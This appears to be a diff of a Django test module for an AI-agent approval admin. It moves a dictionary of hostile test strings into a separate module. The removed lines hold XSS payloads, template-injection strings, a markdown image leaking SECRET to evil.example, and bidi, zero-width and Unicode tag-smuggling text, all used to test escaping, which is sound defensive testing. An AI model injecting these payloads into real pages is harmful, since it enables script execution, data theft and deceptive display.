@@ -11,29 +11,13 @@ from agentruns import Agent, approve, deny, run_agent, tool
 from agentruns.models import Approval, Run, Session
 from agentruns.services.sweep import sweep
 from agentruns.testing import ScriptedModel
-from tests.admin.conftest import World
 from tests.admin.pages import read, url
 from tests.admin.people import browser, user
+from tests.admin.texts import HOSTILE
+from tests.admin.world import World
 from tests.shop.agents import call
 
 pytestmark = pytest.mark.django_db(transaction=True)
-
-HOSTILE = {
-    "script": "<script>alert(1)</script>",
-    "attribute": "\" onmouseover=alert(1) x='' autofocus onfocus='alert(1)",
-    "image": "<img src=x onerror=alert(1)><style>*{display:none}</style>",
-    "link": "<a href='javascript:alert(1)'>approve</a>",
-    "template": "{{ request }}{% csrf_token %}%(name)s %s {0}",
-    "markdown": "![x](https://evil.example/?d=SECRET) [click](javascript:alert(1))",
-    "comment": "--><!-- </textarea></pre></title>",
-    "bidi": "pay \u202e0005\u202c to \u2066Ann\u2069",
-    "zero width": "ad\u200bmin\u200d\ufeff",
-    "control": "bell\x07 escape\x1b[2J back\x08",
-    "null": "nu\x00ll",
-    "surrogate": "half \ud800 a pair",
-    "separators": "line\u2028separator\u2029\u0085",
-    "tags": "smuggled\U000e0041\U000e0042\U000e0100",
-}
 
 
 @pytest.fixture(params=list(HOSTILE))
